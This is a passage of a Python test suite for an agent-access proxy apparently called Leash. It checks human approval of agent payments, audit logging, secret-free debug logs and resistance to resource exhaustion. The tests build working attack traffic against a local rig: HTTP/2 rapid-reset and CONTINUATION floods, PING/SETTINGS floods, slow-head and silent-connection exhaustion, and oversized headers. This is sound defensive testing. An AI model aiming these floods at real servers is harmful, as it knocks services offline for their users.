        pending = task.pending()
        if len(pending) >= count:
            return pending
        time.sleep(0.05)
    raise AssertionError(f"fewer than {count} pending approvals")


def test_a_held_request_forwards_exactly_the_approved_request_once(rig: Rig, task: Task) -> None:
    body = b"to=bob&amount=100"
    marks = rig.marks()
    with ThreadPoolExecutor(1) as pool:
        held = pool.submit(
            in_tunnel, rig, task.credential, pay(body, "Leash-Approval: apr_from_the_page\r\n")
        )
        (approval,) = wait_pending(task)
        # What the human sees is the request, without the session or the credential.
        view = task.leash.call("GET", f"/v1/approvals/{approval['id']}", task.setup.user_key)
        assert view.status_code == 200
        assert view.json()["body_sha256"] == hashlib.sha256(body).hexdigest()
        assert (view.json()["method"], view.json()["path"]) == ("POST", "/pay")
        for secret in (task.sid, task.credential, "apr_from_the_page"):
            assert secret not in view.text
        shown = task.leash.call("GET", f"/v1/approvals/{approval['id']}/body", task.setup.user_key)
        assert shown.content == body
        assert pays(rig, marks) == []
        task.leash.decide(task.setup.user_key, approval["id"], "approve")
        answer = held.result(timeout=15)
    assert answer.status == 200, answer.raw[:300]
    (request,) = [r for r in rig.since(marks) if r.path == "/pay"]
    assert request.body == body
    assert request.cookies() == [("sid", task.sid)]
    assert not request.header("leash-approval")
    used = [
        e
        for e in task.events()
        if e["kind"] == "gateway.request" and e["path"] == "/pay" and e["decision"] == "allow"
    ]
    assert len(used) == 1, used
    assert used[0]["approver"], used[0]
    assert (used[0]["mode"], used[0]["via"]) == ("delegated", "proxy"), used[0]


def test_the_agent_cannot_approve_its_own_held_request(rig: Rig, task: Task) -> None:
    marks = rig.marks()
    with ThreadPoolExecutor(1) as pool:
        held = pool.submit(in_tunnel, rig, task.credential, pay(b"to=mallory&amount=1"))
        (approval,) = wait_pending(task)
        path = f"/v1/approvals/{approval['id']}/approve"
        # With a DPoP access token of its grant, with its proxy credential, through the proxy.
        assert as_agent(task, "POST", path).status_code == 403
        for header in (f"Bearer {task.credential}", basic(task.credential)):
            tried = task.leash.http.post(path, headers={"Authorization": header})
            assert tried.status_code in (401, 403), tried.text
        api = f"127.0.0.1:{rig.api_port}"
        through = at_proxy(
            rig,
            f"POST http://{api}{path} HTTP/1.1\r\nHost: {api}\r\n"
            f"Proxy-Authorization: {basic(task.credential)}\r\nContent-Length: 0\r\n"
            "Connection: close\r\n\r\n".encode(),
        )
        assert through.status == 403
        assert connect(rig, api, basic(task.credential)).status == 403
        status = task.leash.call("GET", f"/v1/approvals/{approval['id']}", task.setup.user_key)
        assert status.json()["status"] == "pending", status.text
        # The human denies: the page learns it at once, in a page of Leash's.
        decided = time.monotonic()
        task.leash.decide(task.setup.user_key, approval["id"], "deny")
        answer = held.result(timeout=15)
    assert time.monotonic() - decided < 2
    leash_page(answer, 403)
    assert "text/html" in answer.header("content-type")[0]
    assert b"denied" in answer.body.lower(), answer.body
    assert pays(rig, marks) == []


def test_a_late_approval_sends_nothing_and_approves_no_other_request(rig: Rig, task: Task) -> None:
    body = b"to=bob&amount=5"
    marks = rig.marks()
    started = time.monotonic()
    answer = in_tunnel(rig, task.credential, pay(body))
    assert time.monotonic() - started >= APPROVAL_WAIT - 0.2
    leash_page(answer, 403, "approval_required")
    assert b"in time" in answer.body
    no_cookie_in(answer, task.sid, task.credential)
    (approval,) = task.pending()
    # The human approves after the page gave up: nothing goes out on its own.
    late = task.leash.call("POST", f"/v1/approvals/{approval['id']}/approve", task.setup.user_key)
    assert late.status_code in (200, 400, 403, 404, 409, 410), late.text
    time.sleep(0.5)
    assert pays(rig, marks) == []
    # The page names that approval for another payment, and for the same one: another never
    # goes through, the same one at most once.
    other = pay(b"to=mallory&amount=999999", f"Leash-Approval: {approval['id']}\r\n")
    same = pay(body, f"Leash-Approval: {approval['id']}\r\n")
    with ThreadPoolExecutor(3) as pool:
        answers = list(pool.map(lambda r: in_tunnel(rig, task.credential, r), [other, same, same]))
    assert answers[0].status != 200, answers[0].raw[:300]
    sent = pays(rig, marks)
    assert b"to=mallory&amount=999999" not in sent, sent
    assert sent in ([], [body]), sent


def test_a_double_submit_is_forwarded_once(rig: Rig, task: Task) -> None:
    body = b"to=bob&amount=7"
    marks = rig.marks()
    with ThreadPoolExecutor(2) as pool:
        held = [pool.submit(in_tunnel, rig, task.credential, pay(body)) for _ in range(2)]
        pending = wait_pending(task, 2)
        assert len(pending) == 2, pending
        task.leash.decide(task.setup.user_key, pending[0]["id"], "approve")
        answers = sorted(h.result(timeout=15).status for h in held)
    assert answers == [200, 403], answers
    assert pays(rig, marks) == [body]


@pytest.mark.parametrize("ending", ["grant revoked", "credential revoked"])
def test_nothing_held_goes_out_after_the_grant_or_credential_ends(
    rig: Rig, make_task: Callable[..., Task], ending: str
) -> None:
    task = make_task()
    marks = rig.marks()
    with ThreadPoolExecutor(1) as pool:
        held = pool.submit(in_tunnel, rig, task.credential, pay(b"to=bob&amount=8"))
        (approval,) = wait_pending(task)
        if ending == "grant revoked":
            task.end("revoke")
        else:
            done = revoke(task.leash, task.credential, task.setup.user_key)
            assert done.status_code == 200
        task.leash.call("POST", f"/v1/approvals/{approval['id']}/approve", task.setup.user_key)
        answer = held.result(timeout=15)
    assert answer.status in (403, 407), answer.raw[:300]
    assert answer.header("leash-decision")
    time.sleep(0.3)
    assert pays(rig, marks) == []


def test_a_grant_holds_at_most_its_share_of_pending_approvals(rig: Rig, task: Task) -> None:
    marks = rig.marks()
    with ThreadPoolExecutor(8) as pool:
        held = [
            pool.submit(in_tunnel, rig, task.credential, pay(b"amount=%d" % i)) for i in range(8)
        ]
        time.sleep(1)
        assert len(task.pending()) <= 5, task.pending()
        statuses = sorted(h.result(timeout=15).status for h in held)
    assert statuses.count(429) >= 3, statuses
    assert set(statuses) <= {403, 429}, statuses
    assert pays(rig, marks) == []


# === Audit and logs ===============================================================================


def test_every_forwarded_and_refused_request_is_audited_as_delegated_via_the_proxy(
    rig: Rig, task: Task
) -> None:
    credential = basic(task.credential)
    steps: list[tuple[str, Callable[[], Any], str | None]] = [
        ("tunnel", lambda: in_tunnel(rig, task.credential, get("/r/a1")), None),
        ("plain", lambda: plain(rig, "http://shop.test/r/a2", credential), None),
        ("no route", lambda: in_tunnel(rig, task.credential, get("/admin")), "no_route"),
        (
            "scope",
            lambda: in_tunnel(rig, task.credential, get("/r/a3", method="DELETE")),
            "insufficient_scope",
        ),
        ("path", lambda: in_tunnel(rig, task.credential, get("/r/../x")), "invalid_request"),
        ("host", lambda: in_tunnel(rig, task.credential, get("/r/a4", host="twin.test")), None),
        ("trace", lambda: in_tunnel(rig, task.credential, get("/r", method="TRACE")), None),
        ("connect outside", lambda: connect(rig, "other.test:443", credential), None),
        ("connect address", lambda: connect(rig, f"127.0.0.1:{rig.app.port}", credential), None),
        ("plain outside", lambda: plain(rig, "http://other.test/r/x", credential), None),
        (
            "reflected",
            lambda: in_tunnel(rig, task.credential, get("/x/echo/header")),
            "credential_reflected",
        ),
    ]
    for name, step, reason in steps:
        before = len(task.events())
        answer = step()
        added = [e for e in task.events()[before:] if e["kind"] == "gateway.request"]
        assert added, (name, "not audited")
        for event in added:
            assert (event["mode"], event["via"]) == ("delegated", "proxy"), (name, event)
            assert event["actor"] == task.setup.agent_id, (name, event)
            assert event["subject"] == task.setup.grant["subject"], (name, event)
        last = added[-1]
        if answer.status < 300:
            assert last["decision"] == "allow", (name, last)
            assert (last["upstream"], last["action"]) == ("shop", "shop:read"), (name, last)
            assert last["method"] == "GET", (name, last)
            assert last["path"] in ("/r/a1", "/r/a2"), (name, last)
        else:
            assert last["decision"] == "deny", (name, last)
            if reason:
                assert last["reason"] == reason, (name, last)
    # HTTP/2 in a tunnel, and a dead credential.
    before = len(task.events())
    with h2_tunnel(rig, task.credential) as h2:
        assert h2.wait(h2.request("GET", "/r/h2")).status == "200"
    (event,) = task.events()[before:]
    assert (event["decision"], event["path"], event["via"]) == ("allow", "/r/h2", "proxy")
    task.end("revoke")
    before = len(task.events())
    assert connect(rig, "shop.test:443", credential).status == 407
    added = task.events()[before:]
    assert [(e["decision"], e["reason"]) for e in added] == [("deny", "invalid_token")], added


def test_no_session_cookie_or_credential_in_debug_logs_or_the_audit(
    upstream: Upstream, tmp_path: Path
) -> None:
    # FIXED (the `cookie_store` target is never logged): with LEASH_LOG=debug, every cookie
    # without the `Secure` attribute that the upstream set was written to the log in plaintext
    # by the cookie library's debug line
    # `DEBUG cookie_store::cookie_store: inserting Set-Cookie 'Cookie { cookie_string:
    # Some("sid=<value>; Path=/; HttpOnly") ...`: here the rotated session `sid=<new>` (what
    # Leash injects from then on in place of the vaulted one) and another jar cookie `j`. (A
    # `Secure` cookie is logged by name only: "inserting secure cookie 'sid'".) Expected (API
    # §9, §16; ATTACKS 39): no log line holds an injected secret, as for the vaulted cookie and
    # the proxy credential, which appear nowhere.
    with started_rig(upstream, tmp_path, env={"LEASH_LOG": "debug"}) as rig:
        task = new_task(rig, tmp_path)
        rotated = "rotated-" + secrets.token_urlsafe(16)
        jar = "jar-" + secrets.token_urlsafe(16)
        cookies = [f"sid={rotated}; Path=/; HttpOnly", f"j={jar}; Path=/"]
        assert in_tunnel(rig, task.credential, get(query("/x/set", c=cookies))).status == 200
        assert in_tunnel(rig, task.credential, get("/r/1")).status == 200
        assert plain(rig, "http://shop.test/r/2", basic(task.credential)).status == 200
        in_tunnel(rig, task.credential, get("/x/echo/header"))
        with h2_tunnel(rig, task.credential) as h2:
            h2.wait(h2.request("GET", "/r/3"))
        connect(rig, "shop.test:443", basic(task.credential + "x"))
        connect(rig, "shop.test:443", basic(task.credential, "bob"))
        time.sleep(0.3)
        log = "".join(rig.leash.output)
        audit = rig.leash.call("GET", "/v1/audit?limit=10000", rig.leash.admin_key).text
        secrets_ = {
            "vaulted session": task.sid,
            "credential": task.credential,
            "credential's MAC": task.credential.rsplit(".", 1)[-1],
            "Proxy-Authorization": basic(task.credential)[6:],
            "rotated session": rotated,
            "jar cookie": jar,
        }
        leaked = {name for name, value in secrets_.items() if value in log or value in audit}
        assert not leaked, f"in the debug log or the audit: {sorted(leaked)}"


# === Resource exhaustion ==========================================================================


def test_huge_heads_are_refused_without_harm(rig: Rig, task: Task) -> None:
    marks = rig.marks()
    big = "X-Big: " + "a" * 1_000_000 + "\r\n"
    many = "".join(f"X-H{i}: 1\r\n" for i in range(5000))
    for name, request in {
        "CONNECT with a 1 MB header": connect_request("shop.test:443", basic(task.credential))[:-2]
        + big.encode()
        + b"\r\n",
        "CONNECT with 5,000 headers": connect_request("shop.test:443", basic(task.credential))[:-2]
        + many.encode()
        + b"\r\n",
        "plain with a 1 MB header": (
            f"GET http://shop.test/r/1 HTTP/1.1\r\nHost: shop.test\r\n{big}\r\n"
        ).encode(),
    }.items():
        answer = at_proxy(rig, request)
        assert answer.status in (400, 431), (name, answer.status)
    for name, inside in {
        "1 MB header": get("/r/1", extra=big),
        "5,000 headers": get("/r/1", extra=many),
        "100 KB path": get("/r/" + "a" * 100_000),
        "1 MB cookie": get("/r/1", extra="Cookie: " + "c=" + "v" * 1_000_000 + "\r\n"),
    }.items():
        assert tunnel_refused(rig, task.credential, inside), name
    assert rig.since(marks) == []
    assert rig.serving()
    assert in_tunnel(rig, task.credential, get("/r/after")).status == 200


def test_many_tunnels_and_http2_floods_leave_proxy_and_api_serving(rig: Rig, task: Task) -> None:
    marks = rig.marks()
    with ThreadPoolExecutor(32) as pool:
        statuses = list(
            pool.map(lambda i: in_tunnel(rig, task.credential, get(f"/r/m{i}")).status, range(150))
        )
    assert statuses == [200] * 150, sorted(set(statuses))
    assert len(rig.since(marks)) == 150
    # HTTP/2 rapid reset (CVE-2023-44487): streams opened and cancelled at once.
    with h2_tunnel(rig, task.credential) as h2:
        block = b"".join(
            hpack_literal(k, v)
            for k, v in (
                (b":method", b"GET"),
                (b":scheme", b"https"),
                (b":path", b"/r/reset"),
                (b":authority", b"shop.test"),
            )
        )
        burst = b"".join(
            h2_frame(1, 0x5, stream, block) + h2_frame(3, 0, stream, (8).to_bytes(4, "big"))
            for stream in range(1, 6001, 2)
        )
        h2.write(burst)
        h2.wait(1, 1)
    # A CONTINUATION flood (CVE-2024-27316 and kin): a header block that never ends.
    with h2_tunnel(rig, task.credential) as h2:
        flood = h2_frame(1, 0, 1, hpack_literal(b":method", b"GET")) + b"".join(
            h2_frame(9, 0, 1, hpack_literal(b"x-a", b"b" * 100)) for _ in range(20_000)
        )
        h2.write(flood)
        h2.wait(1, 1)
    # A PING and SETTINGS flood.
    with h2_tunnel(rig, task.credential) as h2:
        h2.write(b"".join(h2_frame(6, 0, 0, b"12345678") for _ in range(20_000)))
        h2.write(b"".join(h2_frame(4, 0, 0, b"") for _ in range(20_000)))
        h2.wait(1, 1)
    assert len([r for r in rig.since(marks) if r.path == "/r/reset"]) <= 100
    assert rig.serving()
    started = time.monotonic()
    assert in_tunnel(rig, task.credential, get("/r/after")).status == 200
    assert time.monotonic() - started < 5


def test_slow_heads_and_unfinished_handshakes_are_cut_off(rig: Rig, task: Task) -> None:
    good = connect_request("shop.test:443", basic(task.credential))
    slow: list[socket.socket] = []
    for _ in range(20):
        partial = dial(rig)  # a CONNECT head that never ends
        partial.sendall(b"CONNECT shop.test:443 HTTP/1.1\r\nHost: shop.test:443\r\n")
        opened = dial(rig)  # a tunnel whose TLS handshake never starts
        opened.sendall(good)
        assert read_answer(opened, head_only=True).status == 200
        hello = dial(rig)  # a tunnel whose ClientHello never ends
        hello.sendall(good)
        assert read_answer(hello, head_only=True).status == 200
        hello.sendall(b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03")
        slow += [partial, opened, hello]
    try:
        # Meanwhile the API and the proxy serve others.
        assert rig.serving()
        assert in_tunnel(rig, task.credential, get("/r/during")).status == 200
        deadline = time.monotonic() + 15
        for sock in slow:
            sock.settimeout(max(0.1, deadline - time.monotonic()))
            with contextlib.suppress(OSError):
                while sock.recv(65536):
                    pass
        assert time.monotonic() < deadline, "slow clients were still connected after 15 s"
    finally:
        for sock in slow:
            sock.close()


def test_silent_connections_cannot_lock_other_clients_out(rig: Rig, task: Task) -> None:
    # FIXED (a connection must send its first byte within `header_read_timeout`, on every
    # listener: hyper waited for ever to tell HTTP/1 from HTTP/2): a TCP connection to the
    # proxy that never sent a byte was never closed (still
    # open after 70 s), while one that sends part of a head is closed after 10 s. The proxy
    # holds about 512 connections per source address and drops the rest unanswered, so 600
    # silent connections (no credential needed) lock every other client of that address out
    # for as long as they stay open: here a browser's CONNECT 12 s later is closed unanswered.
    # The proxy listens on loopback, where every local process shares one address. Expected:
    # silent connections are cut off like slow heads, and the browser is answered.
    silent = []
    try:
        for _ in range(600):
            with contextlib.suppress(OSError):
                silent.append(socket.create_connection(("127.0.0.1", rig.proxy_port), timeout=2))
        time.sleep(12)
        assert rig.serving()
        try:
            answer = connect(rig, "shop.test:443", basic(task.credential))
        except Closed as error:
            raise AssertionError(f"a browser's CONNECT was not answered: {error}") from None
        assert answer.status == 200
    finally:
        for sock in silent:
            sock.close()


def test_unauthenticated_floods_cannot_flood_the_audit(upstream: Upstream, tmp_path: Path) -> None:
    """API §6: refusals before authentication are rate-limited (default limits here) and
    summarised, not written one event each."""
    with started_rig(upstream, tmp_path, limits="") as rig:

        def count() -> int:
            answer = rig.leash.call("GET", "/v1/audit?limit=10000", rig.leash.admin_key)
            return len(answer.text.splitlines())

        before = count()
        statuses: dict[int, int] = {}
        for i in range(400):
            auth = None if i % 2 else basic("lpx_" + secrets.token_urlsafe(30) + ".AAAA")
            status = connect(rig, "shop.test:443", auth).status
            statuses[status] = statuses.get(status, 0) + 1
        assert set(statuses) <= {407, 429}, statuses
        assert 429 in statuses, statuses
        assert count() - before <= 100, (count() - before, statuses)
        assert rig.serving()
